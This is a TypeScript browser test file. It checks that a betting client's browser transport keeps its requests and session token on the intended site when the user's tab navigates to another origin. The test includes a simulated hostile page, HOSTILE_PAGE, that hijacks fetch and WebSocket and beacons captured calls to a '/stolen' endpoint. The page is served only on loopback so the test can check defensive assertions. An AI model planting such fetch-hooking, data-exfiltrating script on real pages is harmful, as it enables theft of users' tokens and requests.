/**
 * The browser transport keeps to the site: the user's tab of the site
 * navigates mid-run to another origin (a second local server, whose page
 * replaces `fetch` and reports every call home, as a hostile page would) and
 * no request runs there, no token reaches it; the run goes on in a tab of the
 * site. The other server records every request it receives; the sandbox's
 * request log says what reached the site. Debian's chromium, loopback only.
 */
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { run_autobet, type BetLine } from '../../../src/autobet/index.js';
import { StakeClient } from '../../../src/facade/index.js';
import { page_fetch_expression } from '../../../src/transport/browser/page-scripts.js';
import { start_sandbox, type Sandbox } from '../../../src/sandbox/index.js';
import { expectMartingale, MARTINGALE } from '../../autobet/helpers.js';
import { HAVE_CHROMIUM, start_chromium, type RunningChromium } from './chromium-cdp.js';

interface Received {
  readonly method: string;
  readonly url: string;
  readonly headers: http.IncomingHttpHeaders;
  readonly body: string;
}

/** The page of the other origin: it wraps fetch and WebSocket and posts what they are given to /stolen. */
const HOSTILE_PAGE = `<!doctype html><title>elsewhere</title><script>
const report = (what) => navigator.sendBeacon('/stolen', JSON.stringify(what));
const real = window.fetch;
window.fetch = (url, init) => { report({ url: String(url), init }); return real('/forged', init); };
window.WebSocket = function (url) { report({ socket: String(url) }); };
window.__stakeql_sockets = new Map();
</script>`;

describe.skipIf(!HAVE_CHROMIUM)('the browser transport keeps to the site', () => {
  let sandbox: Sandbox;
  let browser: RunningChromium;
  let user: Browser;
  let site: Page;
  let token: string;
  let other: http.Server;
  let other_url: string;
  const received: Received[] = [];
  let dir: string;

  beforeAll(async () => {
    sandbox = await start_sandbox({ starting_balances: { btc: 1 }, dice_seed: 'origin-pin' });
    other = http.createServer((req, res) => {
      let body = '';
      req.setEncoding('utf8');
      req.on('data', (chunk: string) => (body += chunk));
      req.on('end', () => {
        received.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
        res.writeHead(200, { 'content-type': req.url === '/' ? 'text/html' : 'application/json' });
        res.end(req.url === '/' ? HOSTILE_PAGE : '{"data":{}}');
      });
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    // localhost: another origin and another cookie host (cookies ignore the port, so 127.0.0.1:other would get the site's cookies from the browser itself).
    other_url = `http://localhost:${(other.address() as AddressInfo).port}`;
    browser = await start_chromium();
    user = await chromium.connectOverCDP(browser.http_url);
    const context = user.contexts()[0];
    if (context === undefined) throw new Error('chromium has no default context');
    await (context.pages()[0] ?? (await context.newPage())).goto('about:blank');
    site = await context.newPage();
    await site.goto(`${sandbox.url}/login?user=alice`);
    const session = (await context.cookies(sandbox.url)).find((c) => c.name === 'session');
    if (session === undefined) throw new Error('/login set no session cookie');
    token = decodeURIComponent(session.value);
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'stakeql-origin-'));
  }, 60_000);

  afterAll(async () => {
    await user?.close();
    await browser?.close();
    await sandbox?.close();
    await new Promise<void>((resolve) => (other === undefined ? resolve() : other.close(() => resolve())));
    if (dir !== undefined) fs.rmSync(dir, { recursive: true, force: true });
  });

  /** Asserts the other server saw page loads only: no POST, no beacon, nothing holding the token. */
  function nothing_reached_elsewhere(): void {
    expect(received.length).toBeGreaterThan(0);
    for (const r of received) {
      expect(r.method, r.url).toBe('GET');
      expect(['/', '/marker', '/favicon.ico']).toContain(r.url);
      expect(JSON.stringify(r)).not.toContain(token);
      expect(JSON.stringify(r)).not.toContain(encodeURIComponent(token));
    }
  }

  it('a run whose tab leaves for another origin between bets goes on in a tab of the site; nothing runs elsewhere', async () => {
    const client = StakeClient.from_browser(browser.http_url, { base_url: sandbox.url });
    try {
      const lines: BetLine[] = [];
      const first = await run_autobet({
        client, database: path.join(dir, 'a.db'), strategy: MARTINGALE, limits: { stop_loss: 0.01, max_bet: 0.001, max_bets: 3 },
        on_bet: (l) => lines.push(l),
      });
      expect(first.stop?.reason).toBe('max_bets');
      // The client found the user's tab of the site and used it; now the user follows a link away.
      const dice_before = sandbox.stats().request_log.filter((r) => r.operation_name === 'DiceRoll').length;
      await site.goto(`${other_url}/`);
      expect(await site.evaluate('typeof window.__stakeql_sockets')).toBe('object');
      const more: BetLine[] = [];
      const second = await run_autobet({
        client, database: path.join(dir, 'b.db'), strategy: MARTINGALE, limits: { stop_loss: 0.01, max_bet: 0.001, max_bets: 3 },
        on_bet: (l) => more.push(l),
      });
      expect(second.stop?.reason).toBe('max_bets');
      expectMartingale(more);
      // Every bet of the second run reached the sandbox, once each.
      const log = sandbox.stats().request_log.filter((r) => r.operation_name === 'DiceRoll');
      expect(log.length - dice_before).toBe(3);
      for (const line of more) expect(log.filter((r) => r.variables['identifier'] === line.identifier)).toHaveLength(1);
      nothing_reached_elsewhere();
      // The user's tab is left where they took it (not closed, not brought back); a tab of the site was opened instead.
      expect(site.isClosed()).toBe(false);
      expect(new URL(site.url()).origin).toBe(other_url);
      expect(user.contexts()[0]?.pages().some((p) => p.url().startsWith(sandbox.url))).toBe(true);
    } finally {
      await client.close();
    }
  }, 60_000);

  it('the request expression refuses to run in a document of another origin (a navigation after the check): nothing sent', async () => {
    const before = sandbox.stats().requests;
    const count = received.length;
    const expression = page_fetch_expression(sandbox.url, { url: `${sandbox.url}/_api/graphql`, headers: { 'content-type': 'application/json' }, body: '{}' });
    // Run where the tab is now: the other origin's page, whose fetch is hostile.
    expect(new URL(site.url()).origin).toBe(other_url);
    expect(await site.evaluate(expression)).toEqual({ kind: 'elsewhere' });
    expect(sandbox.stats().requests).toBe(before);
    // A marker request after it (XHR: the page's fetch is its own): the only one the other server sees.
    await site.evaluate('new Promise((done) => { const x = new XMLHttpRequest(); x.open("GET", "/marker"); x.onloadend = done; x.send(); })');
    expect(received.slice(count).map((r) => r.url)).toEqual(['/marker']);
    nothing_reached_elsewhere();
  });

  it('a tab_url of another origin and a token given with browser are refused when the client is built', () => {
    expect(() => StakeClient.from_browser(browser.http_url, { base_url: sandbox.url, tab_url: `${other_url}/` })).toThrow(RangeError);
    expect(() => StakeClient.from_browser(browser.http_url, { base_url: sandbox.url, tab_url: `${other_url}/` })).toThrow(/browser\.tab_url/);
    expect(() => StakeClient.from_browser(browser.http_url, { base_url: sandbox.url, access_token: token })).toThrow(/access_token/);
    let message = '';
    try {
      StakeClient.from_browser(browser.http_url, { base_url: sandbox.url, access_token: token });
    } catch (error) {
      message = String(error);
    }
    expect(message).not.toContain(token);
  });
});
